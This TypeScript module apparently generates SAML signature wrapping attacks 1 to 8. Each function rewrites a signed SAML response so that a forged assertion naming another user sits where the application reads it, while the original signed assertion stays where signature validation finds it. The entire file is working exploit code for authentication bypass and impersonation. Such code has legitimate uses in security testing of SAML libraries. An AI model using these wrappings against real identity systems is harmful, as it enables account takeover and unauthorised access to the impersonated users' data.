/**
 * Signature wrapping attacks 1 to 8: the signed assertion remains in the document, and a forged one is in the position
 * where it is read.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

const findByName = (within: Document | Element, name: string) =>
  Array.from(within.getElementsByTagName('*')).filter((element) => element.localName === name);
const childrenNamed = (parent: Element, name: string) =>
  (Array.from(parent.childNodes) as Element[]).filter((child) => child.localName === name);
const requireFirst = (elements: Element[]): Element => {
  const [element] = elements;
  if (!element) throw new Error('The response lacks the element to wrap.');
  return element;
};

const cloneElement = (element: Element) => element.cloneNode(true) as Element;

function cloneUnsigned(element: Element): Element {
  const copy = cloneElement(element);
  for (const signature of childrenNamed(copy, 'Signature')) copy.removeChild(signature);
  return copy;
}

function setName(within: Element, name: string): Element {
  for (const element of findByName(within, 'NameID')) element.textContent = name;
  return within;
}

/** Returns an unsigned copy of an element that names another user. */
function createForgery(element: Element, name: string): Element {
  const copy = cloneElement(element);
  for (const signature of findByName(copy, 'Signature')) signature.parentNode?.removeChild(signature);
  copy.setAttribute('ID', '_forged');
  return setName(copy, name);
}

type Wrap = (document: Document, name: string) => void;

const wrapResponse =
  (insert: (forgery: Element, signature: Element, original: Element) => void): Wrap =>
  (document, name) => {
    const response = document.documentElement;
    const forgery = createForgery(response, name);
    insert(forgery, cloneElement(requireFirst(childrenNamed(response, 'Signature'))), cloneUnsigned(response));
    document.replaceChild(forgery, response);
  };

const wrapAssertion =
  (insert: (assertion: Element, forgery: Element) => void): Wrap =>
  (document, name) => {
    const assertion = requireFirst(findByName(document, 'Assertion'));
    insert(assertion, createForgery(assertion, name));
  };

/**
 * The signed assertion itself names another user, and its original copy is hidden in a position where the signature
 * check finds it.
 */
const hideOriginal =
  (insert: (assertion: Element, original: Element, signature: Element) => void): Wrap =>
  (document, name) => {
    const assertion = requireFirst(findByName(document, 'Assertion'));
    const original = cloneUnsigned(assertion);
    setName(assertion, name).setAttribute('ID', '_forged');
    insert(assertion, original, requireFirst(childrenNamed(assertion, 'Signature')));
  };

export const WRAPPINGS: readonly Wrap[] = [
  wrapResponse((forgery, signature, original) => {
    signature.appendChild(original);
    forgery.insertBefore(signature, forgery.childNodes.item(1));
  }),
  wrapResponse((forgery, signature, original) => {
    forgery.insertBefore(original, forgery.firstChild);
    forgery.insertBefore(signature, original);
  }),
  wrapAssertion((assertion, forgery) => assertion.parentNode?.insertBefore(forgery, assertion)),
  wrapAssertion((assertion, forgery) => {
    assertion.parentNode?.replaceChild(forgery, assertion);
    forgery.appendChild(assertion);
  }),
  hideOriginal((assertion, original) => assertion.parentNode?.appendChild(original)),
  hideOriginal((_assertion, original, signature) => signature.appendChild(original)),
  wrapAssertion((assertion, forgery) => {
    const extensions = assertion.ownerDocument.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(forgery);
    assertion.parentNode?.insertBefore(extensions, assertion);
  }),
  hideOriginal((assertion, original, signature) => {
    const object = assertion.ownerDocument.createElementNS(SIGNATURE, 'ds:Object');
    object.appendChild(original);
    signature.appendChild(object);
  }),
];

/** @param number 1 to 8 */
export function wrap(number: number, xml: string, name: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  WRAPPINGS[number - 1]?.(document, name);
  return new XMLSerializer().serializeToString(document);
}
